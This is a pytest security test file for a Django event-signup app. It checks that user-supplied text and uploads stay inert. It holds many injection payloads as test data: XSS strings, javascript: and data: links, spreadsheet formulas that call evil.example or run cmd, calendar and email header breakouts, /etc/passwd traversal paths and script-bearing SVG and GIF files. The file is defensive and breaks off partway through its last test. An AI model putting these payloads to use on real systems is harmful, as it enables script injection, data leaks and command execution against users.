"""Attacks from outside and from inside (a participant, an organizer) that the other security
tests do not walk: stored markup in every field that reaches a page, a feed, the API or an
email; header and calendar property injection; spreadsheet formulas; guessing another
person's links; open redirects; CSRF; mass assignment. Each test states the defence it proves.
"""

import json
from html.parser import HTMLParser

import pytest
import time_machine
from django.test import Client

from tests.factories import CampaignFactory, LocalEventFactory, UserFactory
from tests.groups.factories import LocalGroupFactory
from tests.security.world import NOW, build_world
from tests.signups.factories import SignupFactory
from turnout.campaigns.models import LocalEvent

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
BREAKOUT = "</script><script>alert(3)</script>"
ATTR = '" onmouseover="alert(4)'
HOSTILE = f"{SCRIPT}{IMG}{BREAKOUT}{ATTR}"
JSON_TYPES = ("application/ld+json", "application/json")


class _LiveMarkup(HTMLParser):
    """Collects what a browser would run: script elements with our payload, event handler
    attributes, and javascript:/data: addresses."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = self._in_json = False

    def handle_starttag(self, tag, attrs):
        # A JSON data block (json_script, JSON-LD) is never run: it must parse whole instead.
        self._in_script = tag == "script" and dict(attrs).get("type") not in JSON_TYPES
        self._in_json = tag == "script" and dict(attrs).get("type") in JSON_TYPES
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                scheme = "".join(value.split()).lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and ("src", "x") in attrs:
            self.found.append("<img src=x>")

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.found.append(f"script: {data[:60]!r}")
        if self._in_json:
            try:
                json.loads(data)
            except ValueError:
                self.found.append(f"JSON block cut short: {data[-60:]!r}")

    def handle_endtag(self, tag):
        self._in_script = self._in_json = False


def assert_inert(text: str, where: str) -> None:
    parser = _LiveMarkup()
    parser.feed(text)
    assert parser.found == [], f"live markup in {where}: {parser.found}"


@pytest.fixture
def hostile_world():
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        group = LocalGroupFactory(slug="hostile-group", name=f"Group {HOSTILE}")
        event = LocalEventFactory(
            campaign=world.campaign,
            title=f"Title {HOSTILE}",
            city=f"Utrecht{HOSTILE}",
            venue=f"Venue {HOSTILE}",
            address=f"Street {HOSTILE}",
            description=f"Description {HOSTILE}\n\n[x](javascript:alert(5)) "
            f'<a href="javascript:alert(6)">y</a>',
            latitude=52.09,
            longitude=5.12,
            group=group,
        )
        world.campaign.title = f"Campaign {HOSTILE}"
        world.campaign.summary = f"Summary {HOSTILE}"
        world.campaign.save()
        yield world, event, group


PUBLIC_PAGES = [
    "/en/events/{pk}/",
    "/en/campaigns/may/",
    "/en/",
    "/en/events/",
    "/en/events/?near=Utrecht",
    "/en/groups/hostile-group/",
    "/en/groups/",
    "/embed/campaigns/may/",
    "/embed/groups/hostile-group/",
    "/en/archive/",
    "/en/campaigns/may/report/",
    "/feeds/campaigns.rss",
    "/feeds/campaigns.atom",
    "/sitemap.xml",
    "/en/press/",
]


@pytest.mark.parametrize("template", PUBLIC_PAGES)
def test_markup_typed_into_an_event_campaign_or_group_stays_text_on_public_pages(
    hostile_world, template
):
    world, event, group = hostile_world
    with time_machine.travel(NOW, tick=False):
        response = Client().get(template.format(pk=event.pk))
    assert response.status_code in (200, 404), response.status_code
    assert_inert(response.content.decode(), template)


def test_json_ld_cannot_be_closed_by_a_title(hostile_world):
    world, event, group = hostile_world
    with time_machine.travel(NOW, tick=False):
        page = Client().get(f"/en/events/{event.pk}/").content.decode()
    # Only our own </script> tags close the scripts: the title's is escaped as \u003C.
    for block in page.split('<script type="application/ld+json">')[1:]:
        data = block.split("</script>", 1)[0]
        json.loads(data)
        assert "Title" not in data or "\\u003C" in data or "<" not in data


@pytest.mark.parametrize(
    "path", ["/api/v1/events/", "/api/v1/events/{pk}/", "/api/v1/groups/", "/api/v1/campaigns/may/"]
)
def test_the_api_answers_json_that_a_browser_will_not_render_as_html(hostile_world, path):
    world, event, group = hostile_world
    with time_machine.travel(NOW, tick=False):
        response = Client().get(path.format(pk=event.pk))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response.get("X-Content-Type-Options") == "nosniff"


# -- markdown: what an editor, a coordinator or an organizer writes ---------------------------

MARKDOWN_ATTACKS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[a](https://example.org "t\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](/photo.png)',
    "<svg onload=alert(1)><use href=data:x></svg>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<script>\nalert(1)\n</script>",
    "<iframe src=https://evil.example></iframe>",
    '<details open ontoggle="alert(1)">',
    "<style>\n*{background:url(https://evil.example)}\n</style>",
    '## Heading {#x" onmouseover="alert(1)}',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\n<script>alert(1)</script>\n```",
    'https://www.youtube.com/watch?v=abc" onload="alert(1)',
]


@pytest.mark.parametrize("source", MARKDOWN_ATTACKS)
def test_markdown_never_yields_a_script_a_handler_or_a_script_address(source):
    from turnout.content.markdown import render_markdown

    html = str(render_markdown(source))
    parser = _LiveMarkup()
    parser.feed(html)
    assert parser.found == [], html
    for tag in ("<script", "<iframe", "<svg", "<style", "<details", "<use"):
        assert tag not in html.lower(), html


@pytest.mark.parametrize(
    "source",
    [
        "![x](//evil.example/a.png)",
        "![x](https:evil.example/a.png)",
        "![x](HTTPS://EVIL.EXAMPLE/a.png)",
        "![x](https://127.0.0.1:8000@evil.example/a.png)",
        "![x](\\\\\\\\evil.example/a.png)",
        "![x](/\\evil.example/a.png)",
        "![x](<https://evil.example/a b.png>)",
    ],
)
def test_an_image_elsewhere_never_loads_before_a_click(source):
    """Nothing reaches a third party before consent: an image whose address a browser would
    fetch from another host becomes a link."""
    from urllib.parse import urljoin, urlsplit

    from turnout.content.markdown import render_markdown

    html = str(render_markdown(source))
    for src in _attribute_values(html, "img", "src"):
        host = urlsplit(urljoin("http://127.0.0.1:8000/en/page/", src.replace("\\", "/"))).netloc
        assert host == "127.0.0.1:8000", html


def _attribute_values(html: str, tag: str, attribute: str) -> list[str]:
    values: list[str] = []

    class Collector(HTMLParser):
        def handle_starttag(self, name, attrs):
            if name == tag:
                values.extend(value for key, value in attrs if key == attribute and value)

    Collector().feed(html)
    return values


def test_a_content_page_with_raw_html_shows_it_as_text(client):
    from tests.content.factories import PageFactory

    PageFactory(
        slug="hostile",
        source=f"---\ntitle: T {HOSTILE}\n---\n\n# Hi\n\n{HOSTILE}\n\n[x](javascript:alert(1))\n",
    )
    response = client.get("/en/hostile/")
    assert response.status_code == 200
    assert_inert(response.content.decode(), "content page")


# -- calendar files: a line break must not start a property or a component -------------------

ICS_BREAKOUT = "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nATTACH:https://evil.example/x"


def _vevents(body: bytes) -> list:
    from icalendar import Calendar

    return list(Calendar.from_ical(body).walk("VEVENT"))


def test_a_line_break_in_event_texts_adds_no_property_or_event_to_feeds_and_invites():
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        event = world.event
        LocalEvent.objects.filter(pk=event.pk).update(
            description=f"About{ICS_BREAKOUT}",
            private_instructions=f"Bring water{ICS_BREAKOUT}",
            location_is_private=True,
        )
        # Single-line fields fold on save; written straight to the table, they must still
        # come out as one property each.
        event.refresh_from_db()
        event.title = f"Title{ICS_BREAKOUT}"
        event.venue = f"Hall{ICS_BREAKOUT}"
        event.save()
        signup = SignupFactory(
            event=event, name=f'Ada";ROLE=CHAIR:mailto:evil@example.org{ICS_BREAKOUT}'
        )
        client = Client()
        for path in (
            "/feeds/events.ics",
            f"/feeds/campaigns/{world.campaign.slug}.ics",
            f"/en/cards/events/{event.pk}.ics",
            f"/en/signups/{signup.token}/invite.ics",
        ):
            response = client.get(path)
            assert response.status_code == 200, path
            uids = [str(vevent["UID"]) for vevent in _vevents(response.content)]
            assert "evil" not in uids, path
            for vevent in _vevents(response.content):
                assert "ATTACH" not in vevent, path
        from turnout.signups.invites import invite_ics

        invite = invite_ics(signup, now=NOW, method="REQUEST").encode()
        (vevent,) = _vevents(invite)
        attendee = vevent["ATTENDEE"]
        assert str(attendee) == f"mailto:{signup.email}"
        assert attendee.params["ROLE"] == "REQ-PARTICIPANT"  # not the name's CHAIR
        assert "ATTACH" not in vevent


# -- email: headers from what people type -------------------------------------------------------


def test_a_hostile_event_title_and_name_stay_in_their_header_and_are_escaped_in_html(client):
    from tests.signups.factories import form_data
    from turnout.notifications.models import OutboxMessage
    from turnout.notifications.outbox import write_owed_letters

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        event = LocalEventFactory(campaign=world.campaign, title="Placeholder")
        LocalEvent.objects.filter(pk=event.pk).update(
            title=f"March\r\nBcc: victim@example.org\r\n\r\n{SCRIPT}"
        )
        response = client.post(
            f"/en/signups/events/{event.pk}/",
            form_data(name=f"Ada\r\nBcc: victim@example.org {IMG}", email="ada@example.org"),
        )
        assert response.status_code == 302
        write_owed_letters()
        message = OutboxMessage.objects.get(to_email="ada@example.org")
    assert "\n" not in message.subject and "\r" not in message.subject
    assert message.reply_to == ""
    assert_inert(message.body_html, "the confirmation email's HTML")
    from turnout.notifications.outbox import mime_message

    written = mime_message(message).message()
    assert written.get_all("Bcc") is None
    assert written.get_all("To") == ["ada@example.org"]


def test_an_organizers_message_subject_cannot_add_recipients(client):
    from turnout.notifications.forms import WrittenMessageForm

    form = WrittenMessageForm(
        {"subject": "Hello\r\nBcc: everyone@example.org\nX-Evil: 1", "body": SCRIPT}
    )
    assert form.is_valid()
    assert "\n" not in form.cleaned_data["subject"] and "\r" not in form.cleaned_data["subject"]


# -- spreadsheets: what participants type must not run as a formula ---------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Ada;=cmd|' /C calc'!A0",  # one cell in Excel's Dutch locale, which splits on ";"
    'Bob;"=1+1"',
]


def _cells(text: str, delimiter: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_the_attendee_export_has_no_cell_that_starts_a_formula(client, delimiter):
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        for number, name in enumerate(FORMULAS):
            SignupFactory(
                event=world.event, name=name, phone=name[:30], email=f"f{number}@example.org"
            )
        client.force_login(world.coordinator)
        response = client.get(f"/en/signups/events/{world.event.pk}/attendees.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = _cells(text, delimiter)
    assert len(cells) > len(FORMULAS)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_campaign_export_has_no_cell_that_starts_a_formula(client):
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        organizer = UserFactory(email="org@example.org", name='=HYPERLINK("https://evil.example")')
        event = LocalEventFactory(campaign=world.campaign, title="Placeholder")
        LocalEvent.objects.filter(pk=event.pk).update(title="@SUM(A1)", venue="Hall;=1+1")
        event.organizers.add(organizer)
        client.force_login(world.coordinator)
        response = client.post(f"/en/dashboard/campaigns/{world.campaign.slug}/events.csv")
    assert response.status_code == 200
    for delimiter in (",", ";"):
        for cell in _cells(response.content.decode("utf-8-sig"), delimiter):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# -- Unicode tricks in names an organizer reads -----------------------------------------------


def test_a_bidi_override_in_a_name_does_not_reach_the_organizer(client):
    from tests.signups.factories import form_data
    from turnout.signups.models import Signup

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        response = client.post(
            f"/en/signups/events/{world.event.pk}/",
            form_data(name="Ada \u202egnp.exe\u202c \u2066Eve\u2069", email="bidi@example.org"),
        )
        assert response.status_code == 302
        signup = Signup.objects.get(email="bidi@example.org")
        client.force_login(world.coordinator)
        page = client.get(f"/en/signups/events/{world.event.pk}/attendees/").content.decode()
    assert signup.name == "Ada gnp.exe Eve"
    for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert control not in page


def test_right_to_left_names_are_kept_as_typed():
    from turnout.web.text import single_line

    assert (
        single_line("\u0639\u0644\u064a \u05d3\u05d5\u05d3")
        == "\u0639\u0644\u064a \u05d3\u05d5\u05d3"
    )


def test_a_semicolon_cannot_start_a_formula_in_a_semicolon_locale():
    from turnout.web.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe("Ada;=1+1") == "Ada;'=1+1"
    assert spreadsheet_safe('Bob; "@SUM(A1)') == "Bob;' \"@SUM(A1)"
    assert spreadsheet_safe("Jansen; van Dijk") == "Jansen; van Dijk"  # text stays text
    assert spreadsheet_safe("=1;=2") == "'=1;'=2"


# -- another event's people, through the ids in my own event's addresses -----------------------


@pytest.fixture
def two_events():
    """An organizer of their own event, and everything of another event in the campaign."""
    from tests.roles.factories import EventRoleFactory, RoleAssignmentFactory
    from turnout.checkin.codes import check_in_code

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        organizer = UserFactory(email="mallory@example.org")
        # Mallory's event is under way, so her door and attendance pages are open.
        mine = LocalEventFactory(
            campaign=world.campaign,
            city="Utrecht",
            starts_at=NOW.replace(hour=11),
            ends_at=NOW.replace(hour=15),
        )
        mine.organizers.add(organizer)
        my_role = EventRoleFactory(event=mine)
        victim_event = LocalEventFactory(
            campaign=world.campaign,
            city="Leiden",
            starts_at=NOW.replace(hour=11),
            ends_at=NOW.replace(hour=15),
        )
        victim = SignupFactory(event=victim_event, name="Qzx7Victim", email="victim@example.org")
        role = EventRoleFactory(event=victim_event, capacity=3, briefing="Qzx7Briefing")
        assignment = RoleAssignmentFactory(role=role, signup=victim)
        yield {
            "organizer": organizer,
            "mine": mine,
            "my_role": my_role,
            "victim": victim,
            "role": role,
            "assignment": assignment,
            "code": check_in_code(victim.token),
            "world": world,
        }


def test_an_organizer_cannot_reach_another_events_people_through_their_own_event(two_events):
    from turnout.roles.models import EventRole, RoleAssignment
    from turnout.signups.models import Signup

    t = two_events
    mine, victim = t["mine"].pk, t["victim"]
    client = Client()
    client.force_login(t["organizer"])
    with time_machine.travel(NOW, tick=False):
        answers = {
            "check in": client.post(f"/en/check-in/events/{mine}/people/{victim.pk}/check-in/"),
            "undo": client.post(f"/en/check-in/events/{mine}/people/{victim.pk}/undo/"),
            "by code": client.post(
                f"/en/check-in/events/{mine}/code/", {"code": t["code"]}, follow=True
            ),
            "code page": client.get(f"/en/check-in/events/{mine}/code/{t['code']}/"),
            "change role": client.post(
                f"/en/roles/events/{mine}/roles/{t['role'].pk}/",
                {"custom_name": "Mine now", "capacity": 9, "briefing": "x"},
            ),
            "remove role": client.post(f"/en/roles/events/{mine}/roles/{t['role'].pk}/remove/"),
            "remove from role": client.post(
                f"/en/roles/events/{mine}/assignments/{t['assignment'].pk}/remove/"
            ),
            "ask": client.post(
                f"/en/roles/events/{mine}/ask/", {"role": t["my_role"].pk, "signup": victim.pk}
            ),
            "attendance": client.post(
                f"/en/signups/events/{mine}/attendees/attendance/", {"attended": [victim.pk]}
            ),
            "door search": client.get(f"/en/check-in/events/{mine}/?q=Qzx7"),
            "attendees": client.get(f"/en/signups/events/{mine}/attendees/"),
            "export": client.get(f"/en/signups/events/{mine}/attendees.csv"),
        }
    for name, response in answers.items():
        body = response.content.decode(errors="replace")
        for secret in ("Qzx7Victim", "victim@example.org", "Qzx7Briefing"):
            assert secret not in body, name
        assert response.status_code < 500, name
    victim.refresh_from_db()
    assert victim.state == Signup.State.CONFIRMED and victim.attended_at is None
    role = EventRole.objects.get(pk=t["role"].pk)
    assert (role.capacity, role.briefing, role.custom_name) == (3, "Qzx7Briefing", "")
    assert RoleAssignment.objects.filter(pk=t["assignment"].pk).exists()
    assert not RoleAssignment.objects.filter(signup=victim, role=t["my_role"]).exists()


def test_a_participant_cannot_take_a_role_of_another_event_with_their_own_link(two_events):
    from turnout.roles.models import RoleAssignment

    t = two_events
    mine = SignupFactory(event=t["mine"], email="me@example.org")
    with time_machine.travel(NOW, tick=False):
        Client().post(f"/en/roles/mine/{mine.token}/volunteer/", {"role": t["role"].pk})
    assert not RoleAssignment.objects.filter(signup=mine).exists()


@pytest.mark.parametrize(
    "token",
    ["", "x", "0" * 43, "%00", "..%2F..%2F", "' OR '1'='1", "*", "null", "undefined"],
)
def test_a_guessed_signup_link_finds_nobody(token, client):
    with time_machine.travel(NOW, tick=False):
        build_world()
        for suffix in ("", "confirm/", "cancel/", "invite.ics"):
            path = f"/en/signups/{token}/{suffix}" if token else f"/en/signups//{suffix}"
            response = client.post(path) if suffix in ("confirm/", "cancel/") else client.get(path)
            assert response.status_code in (400, 404, 405), (path, response.status_code)


def test_signup_links_carry_enough_randomness_not_to_be_guessed():
    with time_machine.travel(NOW, tick=False):
        tokens = [SignupFactory().token for _ in range(20)]
    assert len(set(tokens)) == 20
    assert min(len(token) for token in tokens) >= 22  # at least 128 bits in URL-safe base64


# -- where a link may send a visitor --------------------------------------------------------

EVIL_TARGETS = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "http://127.0.0.1:8000@evil.example/",
    " //evil.example",
    "/%09/evil.example",
    "data:text/html,<script>alert(1)</script>",
]


def _leaves_the_site(location: str) -> bool:
    from urllib.parse import urlsplit

    cleaned = "".join(location.split()).replace("\\", "/")
    parts = urlsplit(cleaned)
    return bool(parts.scheme and parts.scheme not in ("http", "https")) or (
        parts.netloc not in ("", "testserver")
    )


@pytest.mark.parametrize("target", EVIL_TARGETS)
def test_no_form_sends_a_visitor_to_another_site(client, target):
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        answers = [
            client.post("/i18n/setlang/", {"language": "nl", "next": target}),
            client.post(
                "/en/consent/", {"provider": "youtube", "decision": "allow", "next": target}
            ),
            client.post(
                "/en/consent/", {"provider": "youtube", "decision": "withdraw"}, HTTP_REFERER=target
            ),
            client.post("/en/events/my-city/", {"action": "forget", "next": target}),
            client.get(f"/en/accounts/sign-in/?next={target}"),
        ]
        signed_in = Client()
        signed_in.force_login(world.coordinator)
        answers.append(
            signed_in.post(
                f"/en/photos/{world.photo.pk}/review/", {"decision": "approve", "next": target}
            )
        )
    for response in answers:
        location = response.get("Location", "")
        assert not _leaves_the_site(location), (target, location)
        assert f'value="{target}"' not in response.content.decode(errors="replace")


def test_a_sign_in_does_not_remember_a_next_address_on_another_site(client):
    from turnout.accounts.models import SignInCode
    from turnout.notifications.outbox import write_owed_letters

    with time_machine.travel(NOW, tick=False):
        user = UserFactory(email="org@example.org")
        client.post("/en/accounts/sign-in/?next=//evil.example/", {"email": user.email})
        client.post("/en/accounts/sign-in/", {"email": user.email, "next": "https://evil.example"})
        write_owed_letters()  # the delivery run answers the requests
    assert list(SignInCode.objects.filter(user=user).values_list("next_url", flat=True)) == ["", ""]


# -- CSRF: every address that takes a POST refuses one without the token ------------------------

# Addresses that take a POST without the site's CSRF token, and why that is safe.
CSRF_EXEMPT = {
    # RFC 8058: the mail program's servers post here without cookies; the secret token in the
    # address is the proof, and only "List-Unsubscribe=One-Click" stops anything.
    "alerts:one_click_stop",
}


def test_every_post_without_a_csrf_token_is_refused():
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        client = Client(enforce_csrf_checks=True)
        client.force_login(world.coordinator)
        client.cookies["csrftoken"] = "a" * 32  # a cookie but no matching field or header
        taken = []
        for name, path in sorted(world.paths.items()):
            if name in CSRF_EXEMPT:
                continue
            response = client.post(path, {"decision": "approve", "name": "x"})
            if response.status_code != 403 and response.status_code != 405:
                taken.append(f"{name} {path}: {response.status_code}")
    assert taken == []


def test_following_a_link_with_get_changes_nothing():
    from turnout.signups.models import Signup

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        waiting = SignupFactory(event=world.event, state=Signup.State.AWAITING_CONFIRMATION)
        held = SignupFactory(event=world.event)
        client = Client()
        client.get(f"/en/signups/{waiting.token}/confirm/")
        client.get(f"/en/signups/{held.token}/cancel/")
        client.get(f"/en/alerts/{held.token}/stop/")
    waiting.refresh_from_db()
    held.refresh_from_db()
    assert waiting.state == Signup.State.AWAITING_CONFIRMATION
    assert held.state == Signup.State.CONFIRMED


# -- who signed up: the answers must not tell -------------------------------------------------


def _answer(response) -> tuple:
    return response.status_code, response.get("Location", "")


def test_signing_up_an_address_already_signed_up_answers_the_same(client):
    from tests.signups.factories import form_data

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        known = world.signup.email
        path = f"/en/signups/events/{world.event.pk}/"
        repeated = client.post(path, form_data(email=known.upper()))
        new = client.post(path, form_data(email="stranger@example.org"))
    assert _answer(repeated) == _answer(new)


def _page(response, email: str) -> str:
    """The page with the address typed in and the per-visitor CSRF token left out."""
    import re

    text = response.content.decode().replace(email, "ADDRESS")
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", text)


def test_the_privacy_and_sign_in_forms_answer_the_same_for_known_and_unknown_addresses():
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        answers = {}
        for who, email in (("known", world.signup.email), ("unknown", "nobody@example.org")):
            client = Client()
            privacy = client.post("/en/signups/privacy/", {"email": email})
            sign_in = client.post("/en/accounts/sign-in/", {"email": email})
            code = client.get("/en/accounts/sign-in/code/")
            answers[who] = (
                privacy.status_code,
                _page(privacy, email),
                _answer(sign_in),
                _page(code, email),
            )
        coordinator = client.post("/en/accounts/sign-in/", {"email": world.coordinator.email})
    assert answers["known"] == answers["unknown"]
    assert _answer(coordinator) == answers["unknown"][2]


# -- mass assignment: fields a form does not offer are ignored -------------------------------


def test_extra_fields_on_the_signup_form_are_ignored(client):
    from tests.signups.factories import form_data
    from turnout.signups.models import Signup

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        other = LocalEventFactory(campaign=world.campaign, city="Delft")
        client.post(
            f"/en/signups/events/{world.event.pk}/",
            form_data(
                email="mass@example.org",
                state="attended",
                event=other.pk,
                event_id=other.pk,
                token="chosen-token-0000000000",
                source="walk_in",
                is_staff="on",
                anonymized_at="2030-01-01",
                confirmed_at="2030-01-01",
            ),
        )
    signup = Signup.objects.get(email="mass@example.org")
    assert signup.state == Signup.State.AWAITING_CONFIRMATION
    assert signup.event_id == world.event.pk
    assert signup.token != "chosen-token-0000000000"
    assert signup.confirmed_at is None and signup.anonymized_at is None


def test_extra_fields_on_a_proposal_do_not_approve_or_staff_it(client):
    from turnout.accounts.models import User
    from turnout.campaigns.proposals.models import EventProposal

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        response = client.post(
            f"/en/campaigns/{world.campaign.slug}/organize/",
            {
                "city": "Groningen", "venue": "Vismarkt", "day": "2030-05-13",
                "starts": "14:00", "ends": "16:00", "signup_method": "native",
                "proposer_name": "Griet", "proposer_email": "mass@example.org",
                "status": "approved", "state": "approved", "organizers": world.coordinator.pk,
                "is_staff": "on", "is_superuser": "on", "token_hash": "0" * 64,
                "email_confirmed_at": "2030-01-01", "campaign": world.campaign.pk,
            },
        )  # fmt: skip
    assert response.status_code == 200
    proposal = EventProposal.objects.get(proposer_email="mass@example.org")
    assert proposal.event.status == LocalEvent.Status.PROPOSED
    assert proposal.email_confirmed_at is None
    assert proposal.event.organizers.count() == 0
    assert not User.objects.filter(email="mass@example.org", is_staff=True).exists()


def test_an_organizer_cannot_approve_their_own_event_or_add_organizers_by_editing_it(client):
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        organizer = UserFactory(email="mallory@example.org")
        event = LocalEventFactory(campaign=world.campaign, status=LocalEvent.Status.PROPOSED)
        event.organizers.add(organizer)
        client.force_login(organizer)
        page = client.get(f"/en/dashboard/events/{event.pk}/edit/")
        data = {}
        form = page.context["form"] if page.status_code == 200 else None
        if form is not None:
            for name, field in form.fields.items():
                value = form.initial.get(name, field.initial)
                data[name] = "" if value is None else value
        data.update(
            status="approved",
            organizers=[world.coordinator.pk, organizer.pk],
            campaign=CampaignFactory(slug="other").pk,
        )
        client.post(f"/en/dashboard/events/{event.pk}/edit/", data)
    event.refresh_from_db()
    assert event.status == LocalEvent.Status.PROPOSED
    assert event.campaign_id == world.campaign.pk
    assert list(event.organizers.all()) == [organizer]


# -- stored files: names from the address bar reach nothing else on the disk ------------------


@pytest.mark.parametrize(
    "name",
    [
        "../settings.py",
        "..%2F..%2Fetc%2Fpasswd",
        "photos/../../../../etc/passwd",
        "photos/{key}/..%2F..%2F..%2Fetc%2Fpasswd",
        "photos/{key}/../{key}/{file}",
        "/etc/passwd",
        "photos/{key}/{file}%00.png",
        "photos/{KEY}/{file}",
        "photos/{key}//{file}",
        "%2e%2e/%2e%2e/etc/passwd",
    ],
)
def test_the_media_route_serves_only_a_photos_own_files(name, settings):
    settings.SERVE_MEDIA = True
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        (tmp := __import__("pathlib").Path(settings.MEDIA_ROOT)).joinpath("secret.txt").write_text(
            "x"
        )
        key, file = world.photo.original.split("/")[1:]
        path = "/media/" + name.format(key=key, KEY=key.upper(), file=file)
        response = Client().get(path)
    assert response.status_code in (400, 404), (path, response.status_code)
    assert tmp.exists()


def test_an_unpublished_photo_is_not_served_to_a_stranger(settings):
    from turnout.media.models import Photo

    settings.SERVE_MEDIA = True
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        Photo.objects.filter(pk=world.photo.pk).update(state=Photo.State.PENDING)
        world.photo.refresh_from_db()
        assert not world.photo.is_public
        stranger = Client()
        stranger.force_login(UserFactory(email="stranger@example.org"))
        for client in (Client(), stranger):
            for name in world.photo.file_names():
                assert client.get(f"/media/{name}").status_code == 404, name


# -- uploads: only real images, stored without their metadata --------------------------------

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>"
)
HTML_AS_IMAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def _gif_polyglot() -> bytes:
    """A GIF header whose bytes also read as JavaScript (GIFAR-style)."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(1)//" + b"\x00" * 20


@pytest.mark.parametrize(
    "filename, content, content_type",
    [
        ("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml"),
        ("photo.png", SVG_WITH_SCRIPT, "image/png"),
        ("photo.jpg", HTML_AS_IMAGE, "image/jpeg"),
        ("photo.html", HTML_AS_IMAGE, "text/html"),
        ("photo.gif", _gif_polyglot(), "image/gif"),
        ("../../../etc/passwd.png", HTML_AS_IMAGE, "image/png"),
    ],
)
def test_an_upload_that_is_not_a_photo_is_refused_and_stores_nothing(
    client, filename, content, content_type
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile(filename, content, content_type=content_type)
    assert_photo_refused(client, upload, alt_text="x")


def test_a_decompression_bomb_is_refused(client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.media.images import huge_png_header

    assert_photo_refused(client, SimpleUploadedFile("bomb.png", huge_png_header(), "image/png"))


def assert_photo_refused(client, upload, **fields) -> None:
    """A coordinator's upload of `upload` to an event is refused, and no photo is stored."""
    from turnout.media.models import Photo

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        before = Photo.objects.count()
        client.force_login(world.coordinator)
        response = client.post(
            f"/en/photos/event/{world.event.pk}/",
            {"photos": [upload], "faces": "none", **fields},
        )
    assert response.status_code == 400
    assert Photo.objects.count() == before


def test_a_participants_photo_keeps_no_gps_or_camera_in_any_stored_file(settings):
    from io import BytesIO

    from django.core.files.storage import default_storage
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from tests.media.images import GPS_IFD, photo_with_gps
    from turnout.followup.models import FollowUp
    from turnout.media.models import Photo

    with time_machine.travel(NOW.replace(hour=18), tick=False):
        world = build_world()
        LocalEvent.objects.filter(pk=world.event.pk).update(
            starts_at=NOW.replace(hour=10), ends_at=NOW.replace(hour=12)
        )
        FollowUp.objects.create(signup=world.signup, kind=FollowUp.Kind.ATTENDED, sent_at=NOW)
        response = Client().post(
            f"/en/follow-up/{world.signup.token}/photos/",
            {
                "photos": [SimpleUploadedFile("me.jpg", photo_with_gps(), "image/jpeg")],
                "faces": "none",
            },
        )
        assert response.status_code in (200, 302), response.status_code
    photo = Photo.objects.exclude(pk=world.photo.pk).get()
    assert not photo.is_public  # the organizers check it first
    for name in photo.file_names():
        data = default_storage.open(name).read()
        assert b"PhoneMaker" not in data and b"Phone X" not in data, name
        image = Image.open(BytesIO(data))
        assert GPS_IFD not in image.getexif(), name


# -- the admin and stored links ------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/admin/campaigns/localevent/",
        "/admin/campaigns/localevent/{pk}/change/",
        "/admin/signups/signup/",
        "/admin/groups/group/",
        "/admin/campaigns/campaign/",
    ],
)
def test_the_admin_shows_hostile_values_as_text(hostile_world, path):
    world, event, group = hostile_world
